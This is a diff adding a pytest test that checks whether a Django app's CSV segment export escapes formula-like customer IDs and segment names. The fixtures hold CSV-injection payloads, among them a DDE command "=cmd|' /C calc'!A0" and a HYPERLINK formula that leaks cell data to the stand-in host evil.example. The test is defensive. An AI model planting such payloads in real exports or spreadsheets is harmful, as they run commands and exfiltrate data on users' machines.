@@ -1,6 +1,9 @@
 """The segment and export_segments commands: the command-line contract."""
 
+import csv
+import datetime as dt
 import json
+from decimal import Decimal
 from io import StringIO
 
 import pandas as pd
@@ -8,7 +11,7 @@ import pytest
 from django.core.management import CommandError, call_command
 
 from segments import selectors
-from segments.models import SegmentationRun
+from segments.models import Customer, Order, Segment, SegmentationRun
 
 
 pytestmark = pytest.mark.django_db
@@ -75,3 +78,26 @@ def test_export_to_a_missing_directory_is_a_clear_error(shop, tmp_path):
 
     with pytest.raises(CommandError, match=f"--output: cannot write {target}"):
         call_command("export_segments", "--output", str(target), stdout=StringIO())
+
+
+def test_export_writes_formula_like_ids_and_names_as_text_and_numbers_as_numbers(shop, tmp_path):
+    # A customer with a purchase of 10 and a return of 22.50 has a net spend of -12.50.
+    ordered = dt.datetime(2026, 6, 1, tzinfo=dt.UTC)
+    for n, external_id in enumerate(["=cmd|' /C calc'!A0", "-12", "@SUM(A1)", "+44"]):
+        customer = Customer.objects.create(external_id=external_id)
+        Order.objects.create(customer=customer, external_id=f"H{n}a", ordered_at=ordered, amount=Decimal("10.00"))
+        Order.objects.create(
+            customer=customer, external_id=f"H{n}b", ordered_at=ordered, amount=Decimal("-22.50"), is_return=True
+        )
+    call_command("segment", "--k", "3", stdout=StringIO(), stderr=StringIO())
+    Segment.objects.filter(is_active=True).update(name='=HYPERLINK("http://evil.example/?x="&A2,"Champions")')
+    output = tmp_path / "segments.csv"
+
+    call_command("export_segments", "--output", str(output), stdout=StringIO())
+
+    with output.open(newline="") as file:
+        rows = {row["customer_id"]: row for row in csv.DictReader(file)}
+    assert {"'=cmd|' /C calc'!A0", "'-12", "'@SUM(A1)", "'+44"} <= set(rows)
+    assert all(row["segment_name"] == '\'=HYPERLINK("http://evil.example/?x="&A2,"Champions")' for row in rows.values())
+    assert rows["'-12"]["monetary"] == "-12.5"
+    assert float(rows["C0001"]["monetary"]) > 0 and rows["C0001"]["rfm_code"].isdigit()
